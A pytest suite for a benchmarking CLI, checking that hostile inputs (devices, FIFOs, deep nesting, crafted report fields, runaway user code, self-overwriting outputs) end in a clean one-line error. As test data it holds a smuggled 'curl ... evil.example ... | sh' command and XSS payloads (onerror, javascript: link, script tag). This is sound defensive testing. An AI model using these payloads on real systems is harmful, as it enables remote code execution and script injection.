"""Hostile inputs, as real CLI processes: devices, FIFOs, endless or random
stdin, deep nesting and crafted report fields each end in one
`bridge: error:` line and exit status 2, quickly (a bounded reader: memory
stays bounded too), never a traceback or a hang; fields a report may hold
anything in render as text. A broken twins cache costs one warning, and the
run after it works."""

from __future__ import annotations

import copy
import json
import os
import re
import resource
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests import procutil
from tests.conftest import FAST_ARGS, FIXTURES, ROOT, bridge_cmd, needs_erl, needs_openssl

REPORT = str(FIXTURES / "report-hmac-sha1-v1.json")
BASE = json.loads(Path(REPORT).read_text())
# A report with every section: fits, differences, verdicts, masks.
RICH = json.loads((FIXTURES / "roundtrip" / "versions-3otp-2openssl.json").read_text())


@pytest.fixture
def fifo(tmp_path):
    path = tmp_path / "fifo.json"
    os.mkfifo(path)
    return str(path)


def commands(bad: str, tmp: Path) -> dict[str, list[str]]:
    return {
        "report": ["report", bad],
        "compare": ["compare", REPORT, bad],
        "plot": ["plot", bad, "--png", str(tmp / "p.png")],
        "replay": ["run", "--replay", bad],
        "import-speed": ["import-speed", bad],
    }


def one_line_error(done: subprocess.CompletedProcess, *wanted: str) -> str:
    lines = done.stderr.strip().splitlines()
    assert done.returncode == 2, (done.returncode, done.stderr[-2000:])
    assert "Traceback" not in done.stderr
    assert len(lines) == 1 and lines[0].startswith("bridge: error: "), done.stderr[-2000:]
    for word in wanted:
        assert word in lines[0], lines[0]
    return lines[0]


def timed(*args: str, **kw) -> tuple[subprocess.CompletedProcess, float]:
    start = time.monotonic()
    # The timeout is the hang's bound, not a speed: a FIFO that blocked
    # would block for ever, and on a loaded 2-core machine the interpreter's
    # start-up alone takes seconds (6 s at a load of 12).
    done = bridge_cmd(*args, timeout=60, **kw)
    return done, time.monotonic() - start


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom", "fifo"])
def test_devices_and_fifos_are_refused_at_once(tmp_path, device, request):
    bad = request.getfixturevalue("fifo") if device == "fifo" else device
    before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    for name, argv in commands(bad, tmp_path).items():
        done, _ = timed(*argv)
        line = one_line_error(done, bad)
        assert "FIFO" in line if device == "fifo" else "character device" in line, (name, line)
    # No child grew beyond what an interpreter with bridge imported needs
    # (reading /dev/zero once reached gigabytes).
    peak_kib = max(before, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
    assert peak_kib < 400 * 1024, peak_kib


def test_a_fifo_replacing_a_file_after_the_check_cannot_block(tmp_path, monkeypatch):
    """The descriptor is opened non-blocking and checked again: a FIFO
    without a writer does not hang the open."""
    from bridge import plain
    from bridge.errors import UsageError

    path = tmp_path / "f"
    os.mkfifo(path)
    real_stat = os.stat
    monkeypatch.setattr(os, "stat", lambda p, *a, **k: real_stat(REPORT))  # stat saw a file
    with pytest.raises(UsageError, match="is a FIFO"):
        plain.read_bytes(path, 1 << 20, "not a report")


def _stdin(*producer: str) -> subprocess.CompletedProcess:
    """`producer | bridge import-speed -`. The timeout is the hang's bound
    (bridge reading an endless stream would never end), not a speed: on a
    loaded 2-core machine an interpreter's start-up alone takes seconds.
    Neither process outlives it."""
    feed = subprocess.Popen(producer, stdout=subprocess.PIPE)
    try:
        return subprocess.run(
            [sys.executable, "-m", "bridge", "import-speed", "-"],
            stdin=feed.stdout,
            capture_output=True,
            text=True,
            timeout=60,
            cwd=ROOT,
        )
    finally:
        feed.stdout.close()
        feed.kill()
        feed.wait()


def test_endless_or_binary_stdin_to_import_speed():
    one_line_error(_stdin("head", "-c", "20M", "/dev/zero"), "<stdin>", "larger than 16 MiB")
    # Reading stops at the limit: an endless stream ends the same way.
    one_line_error(_stdin("cat", "/dev/zero"), "<stdin>", "larger than 16 MiB")
    one_line_error(_stdin("head", "-c", "4096", "/dev/urandom"), "<stdin>", "binary data")


def test_stdin_text_is_still_imported():
    done = _stdin("cat", str(FIXTURES / "openssl-3.0-sha256.txt"))
    assert done.returncode == 0, done.stderr
    assert "sha256" in done.stdout


def _deep(n: int) -> str:
    return "[" * n + "]" * n


def test_deep_nesting_in_a_report(tmp_path):
    deep = tmp_path / "deep.json"
    text = json.dumps({**BASE, "settings": {"x": "PLACEHOLDER"}}).replace(
        '"PLACEHOLDER"', _deep(5000)
    )
    deep.write_text(text)
    for argv in commands(str(deep), tmp_path).values():
        if argv[0] != "import-speed":
            one_line_error(bridge_cmd(*argv, timeout=30), "nested deeper than 64 levels")
    # Brackets inside strings do not nest.
    fine = tmp_path / "fine.json"
    fine.write_text(json.dumps({**BASE, "reproduce": "[{" * 5000}))
    assert bridge_cmd("report", str(fine), timeout=30).returncode == 0


def test_deep_nesting_in_a_scenario(tmp_path):
    for name, body in {
        "arrays.toml": f"x = {_deep(5000)}\n",
        "tables.toml": "x = " + "{a = " * 3000 + "1" + "}" * 3000 + "\n",
        "dotted.toml": "x" + ".a" * 3000 + " = 1\n",
    }.items():
        path = tmp_path / name
        path.write_text(body)
        one_line_error(bridge_cmd("run", str(path), timeout=30), "nested deeper than 64 levels")


CRAFTED = {
    "size": (("results", 0, "size"), 10**400, "above the maximum"),
    "no samples": (("results", 0, "samples"), [], "no samples"),
    "loops 0": (("results", 0, "loops"), 0, "loops is 0"),
    "hw list": (("results", 0, "hw"), ["x"], "is not one of"),
    "loops length": (("results", 0, "loops"), [1, 2, 3], "3 loops for 20 samples"),
    "negative sample": (("results", 0, "samples", 0), -5, "below the minimum"),
    "negative duration": (("results", 0, "ns_per_op", "median"), -3.0, "below the minimum"),
    "negative size": (("fits", 0, "sizes", 0), -1, "below the minimum"),
    "negative ratio": (("differences", 0, "ratio"), -1.0, "below the minimum"),
    "huge string": (("results", 0, "call"), "x" * (17 << 20), "a string of"),
    "unknown runtime": (("results", 0, "runtime"), "nobody@1", "not among the runtimes"),
    "interop key": (("interop", 0, "outputs"), {"x": "00"}, "does not match"),
    "kind": (("runtimes", 0, "kind"), "shell", "is not one of"),
    "verdict runtime": (("verdicts", 0, "runtime"), "ghost", "not among the runtimes"),
    "mask variable": (
        ("hardware", "experiments", 0, "mask", "variable"),
        "LD_PRELOAD",
        "is not one of",
    ),
    "ci pair": (("results", 0, "ns_per_op", "ci95"), [1.0], "is too short"),
}


def _crafted(path: tuple, value) -> dict:
    d = copy.deepcopy(RICH)
    target = d
    for part in path[:-1]:
        target = target[part]
    target[path[-1]] = value
    return d


@pytest.mark.parametrize("case", list(CRAFTED))
def test_crafted_fields_are_refused_before_rendering(tmp_path, case):
    path, value, message = CRAFTED[case]
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps(_crafted(path, value)))
    # One process each (compare and plot: tests/fuzz/test_fuzz_reports.py, in-process).
    one_line_error(bridge_cmd("report", str(bad), "--format", "markdown", timeout=30), message)


# Fields a report may hold anything in: each renders, and inert (issue 33).
RENDERED = {
    "reproduce with a second command": (
        ("reproduce",),
        "bridge run hmac-sha1 --quick; curl -s https://evil.example/x | sh",
    ),
    "description closing <details>": (
        ("scenarios", 0, "description"),
        "</details><img src=x onerror=alert(1)>",
    ),
    "call with backticks and pipes": (("results", 0, "call"), "a`b``|c|`"),
    "stderr tail with a fence": (("errors", 0, "stderr_tail"), "```\n</details>\n````"),
    "error message with markup": (("errors", 0, "message"), "# h\n- *x* <script>x</script>"),
    "runtime version with a link": (("runtimes", 0, "version"), "[x](javascript:alert(1))"),
}


@pytest.mark.parametrize("case", list(RENDERED))
def test_markup_in_a_field_renders_as_text(tmp_path, case):
    from markdown_it import MarkdownIt

    from bridge.render import escape

    path, value = RENDERED[case]
    doc = json.loads((FIXTURES / "roundtrip" / "run-mix1.json").read_text())
    target = doc
    for part in path[:-1]:
        target = target[part]
    target[path[-1]] = value
    bad = tmp_path / "r.json"
    bad.write_text(json.dumps(doc))
    done = bridge_cmd("report", str(bad), "--format", "markdown", timeout=30)
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    md = done.stdout
    assert "curl" not in md
    html = MarkdownIt("commonmark", {"html": True}).enable(["table"]).render(md)
    assert not re.search(r"<(img|script|a|h1|h2|em|hr|ol)\b", html), html
    for block in re.findall(r"(?m)^(\|.*\n)(\|[-:|]+\|\n)((?:\|.*\n)*)", md):
        widths = {len(escape.md_row_cells(row)) for row in "".join(block).splitlines()}
        assert len(widths) == 1, block


@pytest.mark.parametrize("constant", ["NaN", "Infinity", "-Infinity", "1e400"])
def test_numbers_that_are_not_finite(tmp_path, constant):
    bad = tmp_path / "bad.json"
    text = json.dumps(BASE).replace('"median": ', f'"median": {constant}, "was": ', 1)
    bad.write_text(text)
    one_line_error(bridge_cmd("report", str(bad), timeout=30), str(bad))


@needs_erl
@needs_openssl
@pytest.mark.parametrize("broken", ["deep", "fifo", "not-a-mask"])
def test_a_broken_twins_cache_costs_one_warning(tmp_path, broken):
    cache = Path(os.environ["BRIDGE_CACHE_DIR"]) / "bridge" / "twins.json"
    cache.parent.mkdir(parents=True, exist_ok=True)
    kept = cache.read_bytes() if cache.is_file() else None
    cache.unlink(missing_ok=True)
    if broken == "deep":
        cache.write_text(_deep(5000))
    elif broken == "fifo":
        os.mkfifo(cache)
    else:
        cache.write_text(json.dumps({"k": {"LD_PRELOAD": "/tmp/x.so"}}))
    argv = ["run", "hmac-sha1", "--sizes", "64", "--runtimes", "python", *FAST_ARGS]
    try:
        first = bridge_cmd(*argv, timeout=60)
        assert first.returncode == 0, first.stderr
        assert "Traceback" not in first.stderr
        warned = [line for line in first.stderr.splitlines() if "twins" in line]
        assert len(warned) == 1 and warned[0].startswith("bridge: warning: "), first.stderr
        assert "/dev/" not in warned[0]
        second = bridge_cmd(*argv, timeout=60)
        assert second.returncode == 0, second.stderr
        assert "twins" not in second.stderr, second.stderr
    finally:
        cache.unlink(missing_ok=True)
        if kept is not None:
            cache.write_bytes(kept)


# -- user code (issue 33): fenced --------------------------------------------------
#
# Each case runs `bridge time` with real runtimes (an Erlang node, a Python
# worker, /bin/sh) and ends with one `bridge: error:` line naming the call and
# the limit, or runs; never hangs, never grows past 1 GiB (bridge's peak and
# every worker's, through wait4), and leaves no process running and nothing
# listening (found in /proc by the run's canary or by a `sleep TOKEN`).

GIB = 1 << 30
USER_ARGS = ["--samples", "4", "--rounds", "2", "--warmup-ms", "5", "--openssl-runs", "1"]


def _user_case(tmp_path, *args: str, tokens: tuple[str, ...] = ()) -> procutil.Measured:
    canary = procutil.token()
    env = {"TMPDIR": str(tmp_path)}  # a crash dump kept by a node goes there
    done = procutil.peak_of("time", *USER_ARGS, *args, canary=canary, env=env, timeout=240)
    assert "Traceback" not in done.stderr, done.stderr[-3000:]
    assert done.peak_rss < GIB, done.peak_rss
    assert not procutil.left_behind(canary, *tokens)
    return done


def _refused(done: procutil.Measured, *wanted: str) -> str:
    assert done.returncode == 1, (done.returncode, done.stderr[-2000:])
    (line,) = done.errors
    for word in wanted:
        assert word in line, line
    return line


@needs_openssl
def test_sh_output_is_read_up_to_a_limit(tmp_path):
    done = _user_case(tmp_path, "sh:yes")
    _refused(done, "sh:yes: wrote more than 16 MiB to its standard output")


@needs_openssl
def test_sh_sample_past_the_timeout_is_killed_with_its_group(tmp_path):
    tok = procutil.token()
    done = _user_case(tmp_path, "--timeout", "2", f"sh:sleep {tok}", tokens=(tok,))
    _refused(done, f"sh:sleep {tok}: a sample ran past the 2-s limit (--timeout 2)")
    assert done.seconds < 120


@needs_openssl
def test_sh_background_job_holding_its_output_neither_hangs_nor_stays(tmp_path):
    tok, daemon = procutil.token(), procutil.token()
    exprs = (f"sh:sleep {tok} & cat", f"sh:env -i setsid -f sleep {daemon}; cat")
    done = _user_case(tmp_path, "--timeout", "20", *exprs, tokens=(tok, daemon))
    assert done.returncode == 0, done.stderr
    assert done.seconds < 120


@needs_erl
def test_processes_erlang_code_starts_die_with_the_node(tmp_path):
    tok, daemon = procutil.token(), procutil.token()
    exprs = (f'os:cmd("sleep {tok} &"), Data', f'os:cmd("env -i setsid -f sleep {daemon}"), Data')
    done = _user_case(tmp_path, *exprs, tokens=(tok, daemon))
    assert done.returncode == 0, done.stderr


def test_processes_python_code_starts_die_with_the_worker(tmp_path):
    tok = procutil.token()
    done = _user_case(tmp_path, procutil.py_daemon(tok), tokens=(tok,))
    assert done.returncode == 0, done.stderr


def test_a_listener_started_by_user_code_stops_its_runtime(tmp_path):
    # A daemon of the worker's, not the worker: the guard checks its whole tree.
    tok = procutil.token()
    done = _user_case(tmp_path, procutil.py_daemon(tok, "listen"), tokens=(tok,))
    _refused(done, "listens on 0.0.0.0:", "a user call may listen on loopback")
    assert "only; the runtime and the processes its code started are stopped" in done.stderr


@needs_erl
def test_erlang_output_goes_to_the_captured_stderr_not_the_protocol(tmp_path):
    out = tmp_path / "r.json"
    exprs = ('io:format("hello~n"), erlang:display(hi), Data', "crypto:hash(sha256, Data)")
    done = _user_case(tmp_path, *exprs, "-o", str(out))
    assert done.returncode == 0, done.stderr
    report = json.loads(out.read_text())
    assert len(report["results"]) == 2 and not report["errors"]
    assert "hello" not in done.stdout.splitlines()


def test_a_python_worker_out_of_memory_says_so_and_the_run_goes_on(tmp_path):
    done = _user_case(tmp_path, "py:bytearray(1 << 34)", "py:bytes(data)")
    _refused(done, "py:bytearray(1 << 34): the worker ran out of its 4 GiB memory limit")
    assert "py:bytes(data)" in done.stdout  # measured


@needs_erl
def test_an_erlang_node_out_of_memory_says_so(tmp_path):
    expr = "binary:copy(<<0>>, 1 bsl 31)"
    done = _user_case(tmp_path, "--memory-limit", "1G", expr, "py:bytes(data)")
    line = _refused(done, f"{expr}: the worker ran out of its 1 GiB memory limit")
    assert "--memory-limit 1G" in line and "crash dump: " in line
    assert "py:bytes(data)" in done.stdout


@needs_erl
@pytest.mark.parametrize("expr", ["timer:sleep(infinity)", "py:__import__('time').sleep(1000)"])
def test_a_worker_sample_past_the_timeout_is_killed(tmp_path, expr):
    # 5 s: the sh:cat row must meet it on a loaded machine.
    done = _user_case(tmp_path, "--timeout", "5", expr, "sh:cat")
    _refused(done, f"{expr}: a sample ran past the 5-s limit (--timeout 5)")
    assert "the worker and the processes its code started were killed" in done.stderr
    assert "sh:cat" in done.stdout  # the other runtimes' results are kept
    assert done.seconds < 120


@needs_openssl
def test_scenario_calls_have_the_timeout_too(tmp_path):
    tok = procutil.token()
    scen = tmp_path / "slow.toml"
    scen.write_text(
        'name = "slow"\ndescription = "d"\nkind = "hash"\ndigest = "sha256"\nsizes = [64]\n'
        f'[[calls]]\nruntime = "shell"\nexpr = "sleep {tok}"\n'
    )
    canary = procutil.token()
    done = procutil.peak_of(
        "run", str(scen), *FAST_ARGS, "--runtimes", "openssl", "--timeout", "2", canary=canary
    )
    _refused(done, f"sh:sleep {tok}: a sample ran past the 2-s limit (--timeout 2)")
    assert not procutil.left_behind(canary, tok)


# -- inputs are never overwritten (issue 33) -------------------------------------


def _linked(tmp: Path, how: str, suffix: str = ".json") -> tuple[Path, Path]:
    """A report, and a name for it: itself, a symlink, or a hard link."""
    report = tmp / f"r{suffix}"
    if not report.exists():
        report.write_bytes(Path(REPORT).read_bytes())
    if how == "same":
        return report, report
    other = tmp / f"{how}{suffix}"
    if how == "symlink":
        other.symlink_to(report.name)
    else:
        os.link(report, other)
    return report, other


def overwriting(tmp: Path, how: str) -> dict[str, list[str]]:
    """Every command and output option given a name of its own input."""
    report, out = _linked(tmp, how)
    png, png_out = _linked(tmp, how, ".png")
    svg, svg_out = _linked(tmp, how, ".svg")
    return {
        "run --replay -o": ["run", "--replay", str(report), "-o", str(out)],
        "run --replay --export-json": ["run", "--replay", str(report), "--export-json", str(out)],
        "report -o": ["report", str(report), "-o", str(out)],
        "report --export-markdown": ["report", str(report), "--export-markdown", str(out)],
        "report --export-text": ["report", str(report), "--export-text", str(out)],
        "compare -o": ["compare", REPORT, str(report), "-o", str(out)],
        "compare --export-markdown": [
            "compare",
            str(report),
            REPORT,
            "--export-markdown",
            str(out),
        ],
        "compare --export-html": ["compare", str(report), REPORT, "--export-html", str(out)],
        "plot --svg": ["plot", str(svg), "--svg", str(svg_out)],
        "plot --compare, --png": ["plot", REPORT, "--compare", str(png), "--png", str(png_out)],
        "import-speed -o": ["import-speed", str(report), "-o", str(out)],
    }


@pytest.mark.parametrize("how", ["same", "symlink", "hard-link"])
def test_an_output_naming_an_input_is_refused_before_anything_runs(tmp_path, how):
    kept = Path(REPORT).read_bytes()
    for name, argv in overwriting(tmp_path, how).items():
        done = bridge_cmd(*argv, stdin=subprocess.DEVNULL, timeout=60)
        line = one_line_error(done, "is the same file as", "choose another file")
        assert line.startswith(("bridge: error: --", "bridge: error: -o ")), (name, line)
    for suffix in (".json", ".png", ".svg"):
        assert (tmp_path / f"r{suffix}").read_bytes() == kept
        if how == "symlink":
            assert (tmp_path / f"symlink{suffix}").is_symlink()


def test_time_and_run_never_overwrite_the_scenario_file_they_read(tmp_path):
    scenario_file = tmp_path / "mine.toml"
    scenario_file.write_text(
        'name = "mine"\ndescription = "x"\nkind = "hash"\ndigest = "sha256"\nsizes = [16]\n'
        '[calls]\npython = ["hashlib"]\n'
    )
    kept = scenario_file.read_bytes()
    for argv in (
        ["time", "--scenario", str(scenario_file), "-o", str(scenario_file), "py:data"],
        ["run", str(scenario_file), "--export-text", str(scenario_file)],
        ["run", "mine", "--scenario-dir", str(tmp_path), "-o", str(scenario_file)],
    ):
        one_line_error(bridge_cmd(*argv, timeout=60), "is the same file as ", str(scenario_file))
        assert scenario_file.read_bytes() == kept


def test_two_outputs_naming_one_file_are_refused(tmp_path):
    out = tmp_path / "o.json"
    (tmp_path / "link.json").symlink_to(out.name)
    done = bridge_cmd(
        "report", REPORT, "-o", str(out), "--export-json", str(tmp_path / "link.json")
    )
    one_line_error(done, "-o and --export-json both name")
    assert not out.exists()


def test_outputs_in_place_are_not_inputs(tmp_path):
    """A device is written in place, never replaced: the same terminal or
    /dev/null for two outputs is fine."""
    done = bridge_cmd(
        "report", REPORT, "--export-markdown", "/dev/null", "--export-text", "/dev/null"
    )
    assert done.returncode == 0, done.stderr


# -- the command line's lists are bounded as scenario files are (issue 33) --------


def test_sizes_and_levels_are_capped_as_in_scenario_files():
    sizes = ",".join(str(n) for n in range(1, 20_001))
    done, took = timed("run", "hmac-sha1", "--sizes", sizes)
    one_line_error(done, "--sizes: more than 64 sizes; at most 64, as in a scenario file")
    levels = ",".join(str(n) for n in range(1, 40))
    done, took = timed("run", "hmac-sha1", "--concurrency", levels)
    one_line_error(done, "--concurrency: 39 levels; at most 16, as in a scenario file")
    done, _ = timed("time", "--concurrency", levels, "py:data")
    one_line_error(done, "--concurrency: 39 levels")


# -- issue 33's smaller holes ---------------------------------------------------


def peak_rss_kib(*args: str, timeout: float = 120) -> tuple[subprocess.CompletedProcess, int]:
    """`bridge ARGS` run by a fresh interpreter whose only child it is: its
    peak RSS (ru_maxrss of that one child), whatever earlier tests ran."""
    wrapper = (
        "import resource, subprocess, sys\n"
        "done = subprocess.run([sys.executable, '-m', 'bridge', *sys.argv[1:]],"
        " capture_output=True, text=True)\n"
        "sys.stdout.write(done.stdout)\n"
        "sys.stderr.write(done.stderr)\n"
        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)\n"
        "sys.exit(done.returncode)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", wrapper, *args],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=timeout,
    )
    *said, peak = done.stderr.rstrip("\n").split("\n")
    return subprocess.CompletedProcess(
        done.args, done.returncode, done.stdout, "\n".join(said)
    ), int(peak)


SHADOW = """name = "hmac-sha1"
description = "not the thread's benchmark"
kind = "mac"
digest = "sha1"
key_bytes = 20
sizes = [64]

[[calls]]
runtime = "python"
expr = "open({marker!r}, 'w').write('ran') and hmac.digest(key, data, 'sha1')"
"""


@pytest.mark.parametrize("command", ["run", "show"])
def test_a_scenario_dir_file_cannot_replace_a_builtin(tmp_path, command):
    """Its [[calls]] ran under the built-in's name. Now: one line naming both
    files and the ways out; nothing runs."""
    marker = tmp_path / "MARKER"
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "hmac-sha1.toml").write_text(SHADOW.format(marker=str(marker)))
    argv = [command, "hmac-sha1", "--scenario-dir", str(mine)]
    if command == "run":
        argv += ["--runtimes", "python", *FAST_ARGS]
    line = one_line_error(bridge_cmd(*argv, timeout=60), str(mine / "hmac-sha1.toml"), "built-in")
    assert "rename it" in line and f"bridge run {mine / 'hmac-sha1.toml'}" in line
    assert not marker.exists()


@pytest.mark.parametrize("where", ["/dev/zero", "fifo", "file"])
def test_a_scenario_dir_must_be_a_directory(tmp_path, where, fifo):
    bad = {"fifo": fifo, "file": REPORT}.get(where, where)
    for argv in (["run", "hmac-sha1"], ["list"], ["show", "sha1"]):
        done, took = timed(*argv, "--scenario-dir", bad)
        line = one_line_error(done, "--scenario-dir")
        assert "is not a directory" in line or "is a file" in line, line
        assert took < 20


def _wide_mr_row(n: int) -> str:
    sizes = ":".join(str(16 * (i + 1)) for i in range(n))
    return f"+H:{sizes}\n+F:6:sha256:" + ":".join(f"{1000.0 * (i + 1):.2f}" for i in range(n))


def test_import_speed_of_a_wide_row_is_bounded_and_reads_back(tmp_path):
    """A 240 KB -mr row took 47 s (77 s of CPU here): quadratic in its width.
    It ends now, and what it writes, bridge report reads."""
    doc = tmp_path / "wide.txt"
    doc.write_text(_wide_mr_row(13_000))
    out = tmp_path / "wide.json"
    done = bridge_cmd("import-speed", str(doc), "-o", str(out), "--format", "json", timeout=240)
    assert done.returncode == 0, done.stderr[-2000:]
    again = bridge_cmd("report", str(out), "--format", "json", timeout=240)
    assert again.returncode == 0, again.stderr[-2000:]
    assert len(json.loads(again.stdout)["results"]) == 13_000


@pytest.mark.parametrize(
    "doc, said",
    [
        ("+H:100000000000000000000\n+F:6:sha256:1e20\n", "larger than a report holds (16 GiB)"),
        ("+H:16\n+F:6:sha256:1e-300\n", "a rate that a report cannot hold"),
        (f"+H:16\n+F:6:{'a' * 5000}:1.0\n", "an algorithm name of 5000 characters"),
    ],
)
def test_import_speed_refuses_what_a_report_cannot_hold(tmp_path, doc, said):
    path = tmp_path / "speed.txt"
    path.write_text(doc)
    out = tmp_path / "r.json"
    one_line_error(
        bridge_cmd("import-speed", str(path), "-o", str(out), timeout=60), said, "line 2"
    )
    assert not out.exists()


def _padded_report(tmp_path: Path, unit: str, mib: int) -> Path:
    """A real report with a free-form settings key padded to `mib` MiB with
    `unit` (a tiny object, a small number) over and over."""
    text = json.dumps({**BASE, "settings": {**BASE["settings"], "pad": "PLACEHOLDER"}})
    room = (mib << 20) - len(text)
    n = room // (len(unit) + 1)
    path = tmp_path / "padded.json"
    with open(path, "w") as f:
        head, tail = text.split('"PLACEHOLDER"')
        f.write(head + "[" + ",".join([unit] * n) + "]" + tail)
    return path


@pytest.mark.parametrize(
    "unit, said",
    [
        ("{}", "more than 4194304 values"),
        ('{"a":{}}', "more than 4194304 values"),
        ("[[]]", "more than 4194304 values"),
    ],
)
def test_a_report_that_parsing_would_amplify_is_refused_before_it_is_parsed(tmp_path, unit, said):
    """32 MiB of tiny objects took 993 MB to parse (256 MiB allowed about
    8 GB). The values are counted before json.loads; the file is refused in
    one line, and the process stays near an idle interpreter's size."""
    path = _padded_report(tmp_path, unit, 32)
    done, peak_kib = peak_rss_kib("report", str(path))
    one_line_error(done, str(path), said)
    assert peak_kib < 300 * 1024, peak_kib


def test_a_report_under_the_values_bound_but_costly_to_parse_is_refused(tmp_path):
    """Fewer values than the bound, but each a nested object: counted, then
    priced at what json.loads allocates for each, and refused."""
    path = _padded_report(tmp_path, '{"a":{"b":{}}}', 11)  # 3.8 million values, about 700 MiB
    done, peak_kib = peak_rss_kib("report", str(path))
    one_line_error(done, str(path), "reading it would take about", "more than 640 MiB")
    assert peak_kib < 300 * 1024, peak_kib


def test_a_report_held_four_bytes_a_character_is_priced_so(tmp_path):
    """One emoji makes Python hold the whole text at 4 bytes a character:
    a 200 MiB file would take 800 MiB before parsing began."""
    text = json.dumps({**BASE, "settings": {**BASE["settings"], "pad": "PLACEHOLDER"}})
    path = tmp_path / "wide.json"
    with open(path, "w", encoding="utf-8") as f:
        head, tail = text.split('"PLACEHOLDER"')
        f.write(head + '["\U0001f600", ' + ",".join(['"' + "x" * (8 << 20) + '"'] * 25) + "]")
        f.write(tail)
    done, peak_kib = peak_rss_kib("report", str(path))
    one_line_error(done, str(path), "reading it would take about")
    assert peak_kib < 500 * 1024, peak_kib  # the file itself, 200 MiB, is read


@needs_erl
@needs_openssl
def test_the_cache_follows_no_link_and_blocks_on_no_fifo(tmp_path, no_leftovers):
    """The cache's `beam` a link to another directory (/etc in the issue)
    was written into; a FIFO at limits.json blocked the run for ever. Now
    the worker compiles privately (one warning), limits.json is replaced by
    a file, and the linked directory is untouched."""
    cache = tmp_path / "cache"
    (cache / "bridge").mkdir(parents=True)
    outside = tmp_path / "outside"
    outside.mkdir()
    (cache / "bridge" / "beam").symlink_to(outside)
    os.mkfifo(cache / "bridge" / "limits.json")
    argv = ["run", "sha256", "--sizes", "16384", "--runtimes", "erlang,openssl", "--hw", "on"]
    done = bridge_cmd(*argv, *FAST_ARGS, env={"BRIDGE_CACHE_DIR": str(cache)}, timeout=240)
    assert done.returncode == 0, done.stderr[-2000:]
    warned = [line for line in done.stderr.splitlines() if "worker cache" in line]
    assert len(warned) == 1 and "a symbolic link" in warned[0], done.stderr
    assert list(outside.iterdir()) == []
    limits = cache / "bridge" / "limits.json"
    assert limits.is_file() and not limits.is_fifo()
    assert "sha256" in limits.read_text()
